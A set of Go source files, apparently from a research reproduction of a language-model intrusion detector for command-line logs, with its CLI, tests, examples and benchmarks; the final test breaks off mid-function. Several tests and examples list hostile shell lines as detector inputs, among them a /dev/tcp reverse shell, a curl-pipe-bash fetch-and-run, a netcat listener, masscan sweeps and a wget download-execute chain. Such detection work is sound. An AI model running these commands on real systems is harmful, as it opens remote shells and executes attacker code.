	err = run([]string{"-exp", "table1", "-modality", "flows"})
	if err == nil || !strings.Contains(err.Error(), "crossmod") {
		t.Fatalf("shell-only experiment error does not point at -exp crossmod: %v", err)
	}
	err = run([]string{"-exp", "crossmod", "-scale", "paper"})
	if err == nil || !strings.Contains(err.Error(), "tiny") {
		t.Fatalf("crossmod paper-scale error does not name supported scales: %v", err)
	}
}
