// Command clmrepro regenerates the paper's evaluation (§V): Tables I–III,
// the §III unsupervised analysis, the §V-B F1 comparison, the §V-C
// preference analysis, and the Fig. 2 pre-processing statistics.
//
// Usage:
//
//	clmrepro -scale small            # full reproduction (minutes)
//	clmrepro -scale tiny -exp table1 # one experiment, seconds
//
// Scales: tiny (unit-test size), small (default; the EXPERIMENTS.md
// numbers), paper (the exact BERT-base configuration — documented but far
// beyond one CPU).
//
// -exp crossmod runs the cross-modality reproduction instead: the same
// serving stack trained and evaluated per registered log modality (Unix
// shell, PowerShell, textualized network flows), reporting per-method AUC
// and streaming session-alarm rates. -modality restricts it to one
// modality.
package main

import (
	"flag"
	"fmt"
	"os"
	"strings"

	"clmids/internal/core"
	"clmids/internal/modality"
	"clmids/internal/model"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "clmrepro:", err)
		os.Exit(1)
	}
}

func run(args []string) error {
	fs := flag.NewFlagSet("clmrepro", flag.ContinueOnError)
	scale := fs.String("scale", "small", "experiment scale: tiny | small | paper")
	exp := fs.String("exp", "all", "experiment: all | fig2 | unsup | table1 | table2 | table3 | f1 | pref | crossmod")
	runs := fs.Int("runs", 0, "override number of fine-tuning runs (0 = preset)")
	seed := fs.Int64("seed", 0, "override seed (0 = preset)")
	mod := fs.String("modality", "", "restrict -exp crossmod to one modality ("+modality.FlagHelp()+"); other experiments are shell-only (the commercial IDS rule set is)")
	quiet := fs.Bool("quiet", false, "suppress progress logging")
	if err := fs.Parse(args); err != nil {
		return err
	}
	// Fail a typoed modality with the registered list before any training.
	if err := modality.Validate(*mod); err != nil {
		return err
	}

	if *exp == "crossmod" {
		return runCrossmod(*scale, *mod, *seed, *quiet)
	}
	if *mod != "" && modality.Canonical(*mod) != modality.Shell {
		return fmt.Errorf("-exp %s is shell-only (the simulated commercial IDS rules are shell regexes); use -exp crossmod for %s (modalities: %s)",
			*exp, modality.Canonical(*mod), strings.Join(modality.Names(), " | "))
	}

	cfg, err := configFor(*scale)
	if err != nil {
		return err
	}
	if *runs > 0 {
		cfg.Runs = *runs
	}
	if *seed != 0 {
		cfg.Seed = *seed
	}
	if !*quiet {
		cfg.Logf = func(format string, a ...any) {
			fmt.Fprintf(os.Stderr, format+"\n", a...)
		}
	}

	// The §III experiment runs standalone on a rare-intrusion corpus.
	if *exp == "unsup" {
		return runUnsup(cfg, *quiet)
	}

	res, err := core.Run(cfg)
	if err != nil {
		return err
	}
	switch *exp {
	case "all":
		res.WriteReport(os.Stdout)
		fmt.Println()
		return runUnsup(cfg, *quiet)
	case "fig2":
		res.WriteFig2(os.Stdout)
	case "table1":
		res.WriteTable1(os.Stdout)
	case "table2":
		res.WriteTable2(os.Stdout)
	case "table3":
		res.WriteTable3(os.Stdout)
	case "f1":
		res.WriteF1(os.Stdout)
	case "pref":
		res.WritePreference(os.Stdout)
	default:
		return fmt.Errorf("unknown experiment %q", *exp)
	}
	return nil
}

func configFor(scale string) (core.ExperimentConfig, error) {
	switch scale {
	case "tiny":
		return core.TinyExperiment(), nil
	case "small":
		return core.SmallExperiment(), nil
	case "paper":
		cfg := core.SmallExperiment()
		cfg.Corpus.TrainLines = 30_000_000
		cfg.Corpus.TestLines = 10_000_000
		cfg.Pipeline.VocabSize = 50_000
		cfg.Pipeline.Model = model.BERTBase(50_000)
		cfg.Pipeline.Pretrain.BatchSize = 256
		cfg.Runs = 5
		cfg.TopVs = []int{100, 1000}
		fmt.Fprintln(os.Stderr, "warning: the paper scale needs GPU-class hardware; expect days on CPU")
		return cfg, nil
	default:
		return core.ExperimentConfig{}, fmt.Errorf("unknown scale %q", scale)
	}
}

// runCrossmod trains and evaluates the stack once per modality and prints
// the cross-modality AUC / session-alarm table.
func runCrossmod(scale, mod string, seed int64, quiet bool) error {
	cfg := core.DefaultCrossModality()
	switch scale {
	case "tiny":
	case "small":
		cfg.Corpus.TrainLines = 3000
		cfg.Corpus.TestLines = 1500
	case "paper":
		return fmt.Errorf("-exp crossmod has no paper-scale preset; use -scale tiny or small")
	default:
		return fmt.Errorf("unknown scale %q", scale)
	}
	if mod != "" {
		cfg.Modalities = []string{modality.Canonical(mod)}
	}
	if seed != 0 {
		cfg.Seed = seed
	}
	if !quiet {
		cfg.Logf = func(format string, a ...any) {
			fmt.Fprintf(os.Stderr, format+"\n", a...)
		}
	}
	res, err := core.RunCrossModality(cfg)
	if err != nil {
		return err
	}
	res.WriteTable(os.Stdout)
	return nil
}

func runUnsup(cfg core.ExperimentConfig, quiet bool) error {
	ucfg := core.DefaultUnsupConfig()
	ucfg.Pipeline = cfg.Pipeline
	if !quiet {
		ucfg.Logf = cfg.Logf
	}
	res, err := core.RunUnsupervised(ucfg)
	if err != nil {
		return err
	}
	fmt.Println("== Section III (standalone): unsupervised PCA on a rare-intrusion corpus ==")
	fmt.Printf("masscan: rank #%d, error %.3e (median %.3e, ratio %.1fx)\n",
		res.MasscanBestRank, res.MasscanScore, res.MedianScore,
		safeRatio(res.MasscanScore, res.MedianScore))
	fmt.Printf("abnormal-yet-benign lines in top-%d: %d; true intrusions: %d\n",
		len(res.Top), res.WeirdInTop, res.IntrusionsInTop)
	for _, r := range res.Top {
		fmt.Printf("#%2d %10.3e %-9s %-9s %.70s\n", r.Rank, r.Score, r.Family, r.Label, r.Line)
	}
	return nil
}

func safeRatio(a, b float64) float64 {
	if b == 0 {
		return 0
	}
	return a / b
}
