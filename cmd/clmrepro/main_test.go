package main

import (
	"testing"
)

// TestConfigFor validates the scale presets and the unknown-scale error
// without running anything expensive.
func TestConfigFor(t *testing.T) {
	for _, scale := range []string{"tiny", "small"} {
		cfg, err := configFor(scale)
		if err != nil {
			t.Fatalf("configFor(%q): %v", scale, err)
		}
		if cfg.Corpus.TrainLines == 0 || cfg.Pipeline.Model.Hidden == 0 {
			t.Fatalf("configFor(%q) returned a zero config: %+v", scale, cfg)
		}
	}
	if _, err := configFor("galactic"); err == nil {
		t.Fatal("unknown scale accepted")
	}
	if !testing.Short() {
		// The paper preset is constructed (and warned about) but never run
		// in tests; it must still be a valid configuration.
		cfg, err := configFor("paper")
		if err != nil {
			t.Fatal(err)
		}
		if cfg.Pipeline.Model.Hidden != 768 {
			t.Fatalf("paper preset hidden %d, want 768", cfg.Pipeline.Model.Hidden)
		}
	}
}

// TestRunFlagErrors: bad flags and unknown experiments fail fast, before
// any training starts.
func TestRunFlagErrors(t *testing.T) {
	if err := run([]string{"-scale", "galactic"}); err == nil {
		t.Fatal("unknown scale accepted by run")
	}
	if err := run([]string{"-bogus-flag"}); err == nil {
		t.Fatal("unknown flag accepted")
	}
	// An unknown experiment name is only rejected after the experiment
	// runs (the switch is on output selection), so it is exercised by the
	// smoke test below rather than here.
}

// TestRunTinySmoke runs one real reproduction at the tiny scale — the
// whole command path: flag parsing, experiment run, table rendering. This
// is the only test of cmd/clmrepro that trains anything; it uses the
// smallest preset and a single table to keep `go test ./...` tolerable.
func TestRunTinySmoke(t *testing.T) {
	if testing.Short() {
		t.Skip("tiny reproduction still trains a pipeline")
	}
	if err := run([]string{"-scale", "tiny", "-exp", "table1", "-quiet", "-runs", "1"}); err != nil {
		t.Fatalf("tiny table1 reproduction: %v", err)
	}
}
