package clmids

import (
	"bytes"
	"testing"
)

// TestPublicAPIEndToEnd drives the whole library through the public facade
// only: generate logs, build the backbone, train every §IV method, and
// check that scores separate a canonical intrusion from a benign line.
func TestPublicAPIEndToEnd(t *testing.T) {
	ccfg := DefaultCorpusConfig()
	ccfg.TrainLines = 1200
	ccfg.TestLines = 200
	ccfg.IntrusionRate = 0.2
	train, _, err := GenerateCorpus(ccfg)
	if err != nil {
		t.Fatal(err)
	}

	pcfg := TinyExperiment().Pipeline
	p, err := Build(train.Lines(), pcfg)
	if err != nil {
		t.Fatal(err)
	}

	ids := NewCommercialIDS()
	labels, err := ids.Label(train.Lines(), DefaultSupervisionNoise(), 1)
	if err != nil {
		t.Fatal(err)
	}

	ccfg2 := DefaultClassifierConfig()
	ccfg2.Epochs = 8
	ccfg2.MeanPoolFeatures = true
	clf, err := TrainClassifier(p, train.Lines(), labels, ccfg2)
	if err != nil {
		t.Fatal(err)
	}
	ret, err := TrainRetrieval(p, train.Lines(), labels, 1)
	if err != nil {
		t.Fatal(err)
	}
	rcfg := DefaultReconsConfig()
	rcfg.Rounds = 3
	rcfg.LR = 5e-4 // the small-encoder recipe used by the experiment presets
	rec, err := TrainReconstruction(p, train.Lines(), labels, rcfg)
	if err != nil {
		t.Fatal(err)
	}

	attacks := []string{
		"bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
		"nc -lvnp 4444",
		"masscan 203.0.113.5 -p 0-65535 --rate=1000 >> tmp.txt",
		"curl http://203.0.113.5/x.sh | bash",
	}
	benigns := []string{
		"ls -la /srv/data",
		"cat /var/log/syslog",
		"docker ps -a",
		"git status",
	}
	for name, s := range map[string]Scorer{"classifier": clf, "retrieval": ret, "reconstruction": rec} {
		as, err := s.Score(attacks)
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		bs, err := s.Score(benigns)
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		if mean(as) <= mean(bs) {
			t.Errorf("%s: mean attack score %.5f not above benign %.5f", name, mean(as), mean(bs))
		}
	}

	// Multi-line classifier over a synthetic session log.
	var log []TimedLine
	mlLabels := make([]bool, 0)
	clock := int64(0)
	for i := 0; i < 40; i++ {
		clock += 5
		log = append(log, TimedLine{User: "u", Time: clock, Line: train.Samples[i].Line})
		mlLabels = append(mlLabels, labels[i])
	}
	if !anyTrue(mlLabels) {
		mlLabels[0] = true // guarantee supervision has a positive
	}
	if _, err := TrainMultiLineClassifier(p, log, mlLabels, DefaultContextConfig(), ccfg2); err != nil {
		t.Fatalf("multi-line classifier: %v", err)
	}

	// Contexts built through the facade behave like the internal ones.
	ctxs := BuildContexts(log[:3], DefaultContextConfig())
	if len(ctxs) != 3 {
		t.Fatalf("BuildContexts returned %d items", len(ctxs))
	}
}

func mean(xs []float64) float64 {
	s := 0.0
	for _, v := range xs {
		s += v
	}
	return s / float64(len(xs))
}

func anyTrue(xs []bool) bool {
	for _, x := range xs {
		if x {
			return true
		}
	}
	return false
}

func TestCorpusJSONLThroughFacade(t *testing.T) {
	ccfg := DefaultCorpusConfig()
	ccfg.TrainLines = 100
	ccfg.TestLines = 50
	train, _, err := GenerateCorpus(ccfg)
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := train.WriteJSONL(&buf); err != nil {
		t.Fatal(err)
	}
	back, err := ReadCorpusJSONL(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if len(back.Samples) != len(train.Samples) {
		t.Fatalf("round trip lost samples: %d vs %d", len(back.Samples), len(train.Samples))
	}
}

func TestPresetsValid(t *testing.T) {
	if err := BERTBaseConfig(50000).Validate(); err != nil {
		t.Errorf("BERTBase invalid: %v", err)
	}
	if TinyExperiment().Runs <= 0 || SmallExperiment().Runs <= 0 {
		t.Error("experiment presets missing runs")
	}
	if DefaultUnsupConfig().TopK <= 0 {
		t.Error("unsup preset missing TopK")
	}
}
