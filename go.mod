module clmids

go 1.24
