// Artifacts: the train-once / serve-many workflow in one file.
//
// Trains a tiny backbone, tunes a retrieval scorer once, saves it as a
// versioned bundle, cold-loads the bundle the way a serving fleet replica
// would (no baseline corpus, no tuning), verifies the loaded scorer is
// byte-identical, and finishes with a zero-downtime hot-reload on a live
// sharded streaming detector — the library-level equivalent of
//
//	clmtrain -data train.jsonl -out model/ -bundle bundle/ -method retrieval
//	clmserve -bundle bundle/ &
//	curl -XPOST localhost:8080/reload?bundle=bundle-v2/
//
//	go run ./examples/artifacts
package main

import (
	"fmt"
	"log"
	"os"

	"clmids"
	"clmids/internal/stream"
)

func main() {
	// 1. Train once: backbone + noisy supervision + method head.
	ccfg := clmids.DefaultCorpusConfig()
	ccfg.TrainLines = 1500
	ccfg.IntrusionRate = 0.15
	train, test, err := clmids.GenerateCorpus(ccfg)
	if err != nil {
		log.Fatal(err)
	}
	pipeline, err := clmids.Build(train.Lines(), clmids.TinyExperiment().Pipeline)
	if err != nil {
		log.Fatal(err)
	}
	labels, err := clmids.NewCommercialIDS().Label(train.Lines(), clmids.DefaultSupervisionNoise(), 1)
	if err != nil {
		log.Fatal(err)
	}
	built, err := clmids.BuildMethodScorer(pipeline,
		clmids.ScorerConfig{Method: "retrieval", Seed: 1}, train.Lines(), labels)
	if err != nil {
		log.Fatal(err)
	}

	// 2. Save the bundle: one directory, checksummed sections, a
	// content-derived version.
	dir, err := os.MkdirTemp("", "clmids-bundle-")
	if err != nil {
		log.Fatal(err)
	}
	defer os.RemoveAll(dir)
	manifest, err := clmids.SaveScorerBundle(dir, pipeline, built, "")
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("saved %s bundle %s (%d sections)\n",
		manifest.Method, manifest.Version, len(manifest.Checksums))

	// 3. Serve many: a fleet replica cold-starts from the directory alone.
	// No baseline log, no tuning — and identical scores.
	loaded, err := clmids.LoadScorerBundle(dir)
	if err != nil {
		log.Fatal(err)
	}
	eval := test.Lines()[:64]
	want, err := built.Scorer.Score(eval)
	if err != nil {
		log.Fatal(err)
	}
	got, err := loaded.Scorer.Score(eval)
	if err != nil {
		log.Fatal(err)
	}
	for i := range want {
		if got[i] != want[i] {
			log.Fatalf("score %d drifted across save/load: %v vs %v", i, want[i], got[i])
		}
	}
	fmt.Printf("cold-loaded scorer matches the trained one on %d lines exactly\n", len(eval))

	// 4. Hot-reload: swap a refreshed bundle into a live sharded detector
	// between batches. Here the "new" bundle is the same artifact loaded
	// again; in production it is the retrained drift-refresh.
	replicas, err := clmids.ReplicateScorer(loaded.Scorer, 4)
	if err != nil {
		log.Fatal(err)
	}
	cfg := stream.DefaultConfig()
	cfg.SessionThreshold = 0.8
	det, err := stream.NewShardedDetector(replicas, cfg)
	if err != nil {
		log.Fatal(err)
	}
	det.SetScorerVersion(manifest.Version)

	events := make([]stream.Event, 0, len(eval))
	for i, line := range eval {
		events = append(events, stream.Event{User: fmt.Sprintf("u%d", i%7), Time: int64(1700000000 + i), Line: line})
	}
	if _, err := det.Process(events); err != nil {
		log.Fatal(err)
	}

	refreshed, err := clmids.LoadScorerBundle(dir)
	if err != nil {
		log.Fatal(err)
	}
	if err := det.SwapScorer(refreshed.Scorer, refreshed.Manifest.Version+"-refresh"); err != nil {
		log.Fatal(err)
	}
	if _, err := det.Process(events); err != nil {
		log.Fatal(err)
	}
	st := det.Stats()
	fmt.Printf("hot-reloaded to %s with %d events scored and zero dropped\n",
		st.ScorerVersion, st.Events)
}
