// Quickstart: the full Fig. 1 pipeline in one file.
//
// Synthesizes a small cloud command-line log, trains the backbone
// (pre-processing + BPE + masked-LM pre-training), adapts it with
// classification-based tuning under noisy commercial-IDS supervision, and
// scores a handful of command lines.
//
//	go run ./examples/quickstart
package main

import (
	"fmt"
	"log"

	"clmids"
)

func main() {
	// 1. Log data. In production this is your audit log; here the
	// synthetic generator stands in for the paper's 30M-line corpus.
	ccfg := clmids.DefaultCorpusConfig()
	ccfg.TrainLines = 2000
	ccfg.IntrusionRate = 0.15
	train, _, err := clmids.GenerateCorpus(ccfg)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("log: %d lines, %d intrusions\n",
		len(train.Samples), train.CountLabel(clmids.Intrusion))

	// 2. Backbone: parser filter -> BPE tokenizer -> MLM pre-training.
	pcfg := clmids.TinyExperiment().Pipeline
	pcfg.Logf = func(format string, a ...any) { fmt.Printf("  "+format+"\n", a...) }
	pipeline, err := clmids.Build(train.Lines(), pcfg)
	if err != nil {
		log.Fatal(err)
	}

	// 3. Noisy supervision from the commercial IDS (§IV).
	ids := clmids.NewCommercialIDS()
	labels, err := ids.Label(train.Lines(), clmids.DefaultSupervisionNoise(), 1)
	if err != nil {
		log.Fatal(err)
	}

	// 4. Classification-based tuning (§IV-B): the paper's best method.
	tcfg := clmids.DefaultClassifierConfig()
	tcfg.Epochs = 8
	tcfg.MeanPoolFeatures = true
	detector, err := clmids.TrainClassifier(pipeline, train.Lines(), labels, tcfg)
	if err != nil {
		log.Fatal(err)
	}

	// 5. Inference.
	lines := []string{
		"ls -la /srv/data",
		"docker exec -it app bash",
		"nc -lvnp 4444",
		"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
		"sh /root/masscan.sh 203.0.113.9 -p 0-65535", // out-of-box: no rule covers it
	}
	scores, err := detector.Score(lines)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Println("\nintrusion scores:")
	for i, line := range lines {
		fmt.Printf("  %.3f  %s\n", scores[i], line)
	}
}
