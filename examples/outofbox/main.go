// Out-of-box hunting: the paper's headline capability (§V-A, Table III).
//
// The commercial IDS only recognizes patterns its rules cover. This example
// trains classification-based tuning on those (noisy) rule verdicts and
// shows it catching the Table III variants the rules miss: nc -ulp, wrapper
// scripts around masscan, socks5 proxies, python3 base64-decode-exec.
//
//	go run ./examples/outofbox
package main

import (
	"fmt"
	"log"

	"clmids"
)

func main() {
	ccfg := clmids.DefaultCorpusConfig()
	ccfg.TrainLines = 2500
	ccfg.IntrusionRate = 0.2
	ccfg.OutOfBoxFrac = 0.1 // training attacks are mostly in-box, as in reality
	train, _, err := clmids.GenerateCorpus(ccfg)
	if err != nil {
		log.Fatal(err)
	}

	pipeline, err := clmids.Build(train.Lines(), clmids.TinyExperiment().Pipeline)
	if err != nil {
		log.Fatal(err)
	}
	ids := clmids.NewCommercialIDS()
	labels, err := ids.Label(train.Lines(), clmids.DefaultSupervisionNoise(), 7)
	if err != nil {
		log.Fatal(err)
	}
	tcfg := clmids.DefaultClassifierConfig()
	tcfg.Epochs = 10
	tcfg.MeanPoolFeatures = true
	detector, err := clmids.TrainClassifier(pipeline, train.Lines(), labels, tcfg)
	if err != nil {
		log.Fatal(err)
	}

	fmt.Println("Table III: in-box pattern (covered by rules) vs out-of-box variant (missed by rules)")
	fmt.Println()
	for _, pair := range clmids.TableIIIPairs() {
		scores, err := detector.Score([]string{pair[0], pair[1]})
		if err != nil {
			log.Fatal(err)
		}
		ruleIn := ids.Match(pair[0]) != ""
		ruleOut := ids.Match(pair[1]) != ""
		fmt.Printf("in : %-62s rules=%-5v model=%.3f\n", clipLine(pair[0]), ruleIn, scores[0])
		fmt.Printf("out: %-62s rules=%-5v model=%.3f\n\n", clipLine(pair[1]), ruleOut, scores[1])
	}
	fmt.Println("the rules never fire on the out-of-box column; the model scores both")
}

func clipLine(s string) string {
	if len(s) <= 62 {
		return s
	}
	return s[:59] + "..."
}
