// Multi-line classification (§IV-C): some intrusions are only visible in
// session context. "wget -c http://…/drop -o python" followed by "python"
// is the paper's example — each line looks routine alone; together they are
// a download-rename-execute chain.
//
// This example builds a session log in which that chain recurs, trains both
// the single-line and the multi-line classifier on the same per-line
// labels, and compares their scores.
//
//	go run ./examples/multiline
package main

import (
	"fmt"
	"log"
	"math/rand"

	"clmids"
)

func main() {
	// A hand-shaped session log: routine traffic, benign wget+tar sessions,
	// benign interpreter use, and the attack chain.
	rng := rand.New(rand.NewSource(42))
	routine := []string{
		"ls -la /srv/data", "cat /var/log/syslog", "df -h", "ps aux",
		"grep -i error /var/log/app.log", "docker ps -a", "git status",
		"cd /srv/deploy", "tail -n 50 /var/log/nginx.log", "echo done",
	}
	var log_ []clmids.TimedLine
	var labels []bool
	clock := int64(0)
	add := func(user, line string, intrusion bool) {
		clock += 7
		log_ = append(log_, clmids.TimedLine{User: user, Time: clock, Line: line})
		labels = append(labels, intrusion)
	}
	for i := 0; i < 220; i++ {
		user := fmt.Sprintf("u%d", i%7)
		switch i % 6 {
		case 0: // benign interpreter use in a benign context
			add(user, routine[rng.Intn(len(routine))], false)
			add(user, "python", false)
		case 1: // benign download-then-unpack
			add(user, fmt.Sprintf("wget https://mirror.example.com/pkg%d.tar.gz", i), false)
			add(user, "tar -xzf pkg.tar.gz", false)
		case 2: // the §IV-C attack chain
			add(user, fmt.Sprintf("wget -c http://203.0.113.%d/drop -o python", 1+rng.Intn(250)), true)
			add(user, "python", true)
		default:
			add(user, routine[rng.Intn(len(routine))], false)
		}
	}

	// Pre-train the backbone on the same traffic (plus joined contexts so
	// multi-line inputs are in distribution).
	lines := make([]string, len(log_))
	for i, t := range log_ {
		lines[i] = t.Line
	}
	contexts := clmids.BuildContexts(log_, clmids.DefaultContextConfig())
	pretrainCorpus := append(append([]string{}, lines...), contexts...)
	pipeline, err := clmids.Build(pretrainCorpus, clmids.TinyExperiment().Pipeline)
	if err != nil {
		log.Fatal(err)
	}

	tcfg := clmids.DefaultClassifierConfig()
	tcfg.Epochs = 10
	tcfg.MeanPoolFeatures = true
	single, err := clmids.TrainClassifier(pipeline, lines, labels, tcfg)
	if err != nil {
		log.Fatal(err)
	}
	multi, err := clmids.TrainMultiLineClassifier(pipeline, log_, labels,
		clmids.DefaultContextConfig(), tcfg)
	if err != nil {
		log.Fatal(err)
	}

	chainCtx := "ls -la /srv/data ; wget -c http://203.0.113.77/drop -o python ; python"
	benignCtx := "ls -la /srv/data ; cd /srv/deploy ; python"
	s, err := single.Score([]string{"python"})
	if err != nil {
		log.Fatal(err)
	}
	m, err := multi.Score([]string{chainCtx, benignCtx})
	if err != nil {
		log.Fatal(err)
	}
	fmt.Println("\nthe paper's §IV-C chain: wget -c …/drop -o python ; python")
	fmt.Printf("  single-line score of %q alone (ambiguous):     %.3f\n", "python", s[0])
	fmt.Printf("  multi-line score with the attack context:          %.3f\n", m[0])
	fmt.Printf("  multi-line score of python in a benign context:    %.3f\n", m[1])
	fmt.Println("\nonly the contextual view separates the execution from routine use")
}
