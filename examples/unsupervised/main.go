// Unsupervised anomaly detection (§III): PCA reconstruction error over
// command-line embeddings, no labels at all.
//
// Reproduces the paper's anecdote: the masscan full-port sweep shows a
// reconstruction error far above typical lines, while "abnormal yet benign"
// behaviours (mv with dozens of generated filenames, echo with long
// gibberish) are the dominant false-positive mode — the gap that motivates
// adding supervision in §IV.
//
//	go run ./examples/unsupervised
package main

import (
	"fmt"
	"log"

	"clmids"
)

func main() {
	cfg := clmids.DefaultUnsupConfig()
	cfg.Logf = func(format string, a ...any) { fmt.Printf("  "+format+"\n", a...) }
	res, err := clmids.RunUnsupervised(cfg)
	if err != nil {
		log.Fatal(err)
	}

	fmt.Println("\ntop reconstruction errors over the test log:")
	for _, r := range res.Top {
		fmt.Printf("  #%2d %10.3e [%s/%s] %.64s\n", r.Rank, r.Score, r.Label, r.Family, r.Line)
	}
	fmt.Printf("\nmasscan full-port sweep: rank #%d, error %.3e = %.0fx the median\n",
		res.MasscanBestRank, res.MasscanScore, res.MasscanScore/res.MedianScore)
	fmt.Printf("abnormal-yet-benign lines in the top-%d: %d (the paper's false-positive mode)\n",
		len(res.Top), res.WeirdInTop)
}
