package clmids

// Ablation benchmarks for the design choices the paper motivates:
//
//   - §IV-D: the modified retrieval score (similarity to nearest malicious)
//     versus the textbook kNN majority vote, under increasing label noise;
//   - [CLS] probing versus mean-pooled features for the classification head
//     at small encoder scale;
//   - the §V-C ensemble versus the best single method.

import (
	"fmt"
	"math/rand"
	"os"
	"testing"

	"clmids/internal/anomaly"
	"clmids/internal/core"
	"clmids/internal/corpus"
	"clmids/internal/metrics"
	"clmids/internal/tensor"
	"clmids/internal/tuning"
)

// BenchmarkAblationRetrievalNoise compares the paper's modified retrieval
// scoring with plain kNN majority voting as supervision labels degrade.
// The modification's AUC should hold up while the vote collapses.
func BenchmarkAblationRetrievalNoise(b *testing.B) {
	rng := rand.New(rand.NewSource(77))
	const n, dim = 600, 16
	x := tensor.NewMatrix(n, dim)
	truth := make([]bool, n)
	for i := 0; i < n; i++ {
		row := x.Row(i)
		if i%10 == 0 {
			truth[i] = true
			row[1] = 1
		} else {
			row[0] = 1
		}
		for j := range row {
			row[j] += rng.NormFloat64() * 0.08
		}
	}

	evalAt := func(fnRate float64) (aucModified, accMajority float64) {
		labels := make([]bool, n)
		for i, t := range truth {
			labels[i] = t && rng.Float64() >= fnRate // false negatives only
		}
		ret := anomaly.NewRetrieval(1)
		if err := ret.FitLabeled(x, labels); err != nil {
			b.Fatal(err)
		}
		var items []metrics.Scored
		correct := 0
		for i := 0; i < n; i++ {
			items = append(items, metrics.Scored{
				Line:          fmt.Sprintf("l%d", i),
				Score:         ret.Score(x.Row(i)),
				TrueIntrusion: truth[i],
			})
			if ret.MajorityVote(x.Row(i), 3) == truth[i] {
				correct++
			}
		}
		auc, err := metrics.ROCAUC(items)
		if err != nil {
			b.Fatal(err)
		}
		return auc, float64(correct) / float64(n)
	}

	var aucLow, aucHigh, accLow, accHigh float64
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		aucLow, accLow = evalAt(0.1)
		aucHigh, accHigh = evalAt(0.7)
	}
	b.StopTimer()
	b.ReportMetric(aucLow, "auc-mod@fn0.1")
	b.ReportMetric(aucHigh, "auc-mod@fn0.7")
	b.ReportMetric(accLow, "acc-vote@fn0.1")
	b.ReportMetric(accHigh, "acc-vote@fn0.7")
	printTable("ablation-retrieval", func() {
		fmt.Printf("== Ablation: retrieval under label noise (fn=0.1 -> 0.7) ==\n"+
			"  modified score AUC: %.3f -> %.3f\n  majority-vote acc : %.3f -> %.3f\n",
			aucLow, aucHigh, accLow, accHigh)
	})
}

// BenchmarkAblationFeaturePooling compares [CLS] probing with mean-pooled
// features for the classification head on the same backbone and labels.
func BenchmarkAblationFeaturePooling(b *testing.B) {
	ccfg := corpus.DefaultConfig()
	ccfg.TrainLines = 1200
	ccfg.TestLines = 600
	ccfg.IntrusionRate = 0.2
	train, test, err := corpus.Generate(ccfg)
	if err != nil {
		b.Fatal(err)
	}
	pcfg := core.TinyExperiment().Pipeline
	pl, err := core.BuildPipeline(train.Lines(), pcfg)
	if err != nil {
		b.Fatal(err)
	}
	labels := make([]bool, len(train.Samples))
	for i, s := range train.Samples {
		labels[i] = s.Label == corpus.Intrusion
	}

	auc := func(meanPool bool) float64 {
		cfg := tuning.DefaultClassifierConfig()
		cfg.Epochs = 8
		cfg.MeanPoolFeatures = meanPool
		clf, err := pl.NewClassifier(train.Lines(), labels, cfg)
		if err != nil {
			b.Fatal(err)
		}
		scores, err := clf.Score(test.Lines())
		if err != nil {
			b.Fatal(err)
		}
		var items []metrics.Scored
		for i, s := range test.Samples {
			items = append(items, metrics.Scored{
				Line:          fmt.Sprintf("%d", i),
				Score:         scores[i],
				TrueIntrusion: s.Label == corpus.Intrusion,
			})
		}
		v, err := metrics.ROCAUC(items)
		if err != nil {
			b.Fatal(err)
		}
		return v
	}

	var cls, mean float64
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		cls = auc(false)
		mean = auc(true)
	}
	b.StopTimer()
	b.ReportMetric(cls, "auc-cls")
	b.ReportMetric(mean, "auc-meanpool")
	printTable("ablation-pooling", func() {
		fmt.Printf("== Ablation: head features at small scale: CLS AUC %.3f vs mean-pool AUC %.3f ==\n", cls, mean)
	})
}

// BenchmarkAblationEnsemble reports the §V-C ensemble against the single
// methods on the shared experiment (requires the ensemble-enabled config).
func BenchmarkAblationEnsemble(b *testing.B) {
	if os.Getenv("CLMIDS_BENCH_SCALE") != "small" {
		b.Skip("ensemble is part of the small-scale experiment; set CLMIDS_BENCH_SCALE=small")
	}
	res := benchResults(b)
	ens := res.Method(core.MethodEnsemble)
	if ens == nil {
		b.Skip("ensemble disabled in this configuration")
	}
	clf := res.Method(core.MethodClassification)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if ens.PO.Mean < 0 {
			b.Fatal("impossible")
		}
	}
	b.StopTimer()
	b.ReportMetric(ens.PO.Mean, "PO-ensemble")
	b.ReportMetric(clf.PO.Mean, "PO-classif")
}
