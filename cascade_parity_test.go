package clmids

import (
	"testing"

	"clmids/internal/core"
	"clmids/internal/metrics"
	"clmids/internal/modality"
	"clmids/internal/model"
)

// Corpus-level parity harness for the scoring cascade (rarity pre-filter →
// int8 triage → f64 confirm). The acceptance gate mirrors the precision
// ladder's: on a replayed corpus at a stability-checked threshold, the
// cascade raises exactly the session alarms the f64-only scorer raises,
// while every rung genuinely absorbs traffic. The AUC gate is one-sided:
// collapsing the cleared benign mass to the calibrated ClearScore removes
// ranking noise below the escalation band, which typically nudges AUC up —
// only a drop (intrusions sinking relative to benign lines) is a fidelity
// regression, and it may not exceed this bound.
const cascadeAUCDrop = 0.05

func TestCascadeCorpusParity(t *testing.T) {
	if testing.Short() {
		t.Skip("corpus parity harness builds a pipeline")
	}
	f64Scorer, train, test := parityFixture(t)

	art, err := core.CalibrateCascade(f64Scorer, modality.Shell, train.Lines(), core.DefaultCascadeConfig())
	if err != nil {
		t.Fatal(err)
	}
	casc, err := core.BuildCascade(f64Scorer, art)
	if err != nil {
		t.Fatal(err)
	}

	// Pass 1 (float64, thresholds off): learn a stable session threshold.
	probe := runStream(t, atPrecision(t, f64Scorer, model.PrecisionFloat64), test, 0)
	sessScores := make([]float64, len(probe))
	for i, v := range probe {
		sessScores[i] = v.SessionScore
	}
	thr := stableThreshold(t, sessScores)

	want := runStream(t, f64Scorer, test, thr)
	wantAlarms := 0
	for _, v := range want {
		if v.SessionAlert {
			wantAlarms++
		}
	}
	if wantAlarms == 0 {
		t.Fatalf("threshold %g produced no session alarms; harness is vacuous", thr)
	}

	got := runStream(t, casc, test, thr)
	if len(got) != len(want) {
